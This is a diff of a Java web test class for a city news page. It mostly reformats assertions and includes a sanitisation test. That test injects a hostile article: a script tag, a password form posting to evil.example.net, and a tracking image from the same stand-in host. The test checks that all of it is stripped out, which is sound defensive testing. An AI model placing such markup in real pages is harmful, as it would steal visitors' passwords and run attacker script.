@@ -60,19 +60,20 @@ class NewsControllerTests {
         assertThat(page.expectFirst("h1").text()).isEqualTo("A bridge & a road");
         assertThat(page.expectFirst("main article strong").text()).isEqualTo("it");
         assertThat(page.expectFirst("main time").text()).isEqualTo("22 November 2026");
-        assertThat(page.expectFirst("link[rel=canonical]").attr("href"))
-            .isEqualTo("http://localhost:8080/news/shared");
+        assertThat(page.expectFirst("link[rel=canonical]").attr("href")).isEqualTo("http://localhost:8080/news/shared");
         assertThat(page.expectFirst("meta[property=og:title]").attr("content")).isEqualTo("A bridge & a road");
         assertThat(page.expectFirst("meta[property=og:url]").attr("content"))
             .isEqualTo("http://localhost:8080/news/shared");
-        assertThat(page.select(".city-share a").eachAttr("href")).anySatisfy((link) -> assertThat(link)
-            .startsWith("mailto:?subject=A%20bridge%20%26%20a%20road&body=http%3A%2F%2Flocalhost%3A8080%2Fnews%2Fshared"));
+        assertThat(page.select(".city-share a").eachAttr("href")).anySatisfy((link) -> assertThat(link).startsWith(
+                "mailto:?subject=A%20bridge%20%26%20a%20road&body=http%3A%2F%2Flocalhost%3A8080%2Fnews%2Fshared"));
     }
 
     @Test
     void whateverIsOnTheTopicTheCitysPageSubmitsNothingElsewhereAndRunsNothing() {
-        publish("hostile", "mayor", "<p>Hi</p><script>alert(1)</script><form action='https://evil.example.net'>"
-                + "<input name=password></form><img src='https://evil.example.net/p.gif'>", "2026-11-22T09:00:00Z");
+        publish("hostile", "mayor",
+                "<p>Hi</p><script>alert(1)</script><form action='https://evil.example.net'>"
+                        + "<input name=password></form><img src='https://evil.example.net/p.gif'>",
+                "2026-11-22T09:00:00Z");
         Document page = page(this.visitor.get("/news/hostile"));
         assertThat(page.expectFirst("main article").select("script, form, input, img")).isEmpty();
     }
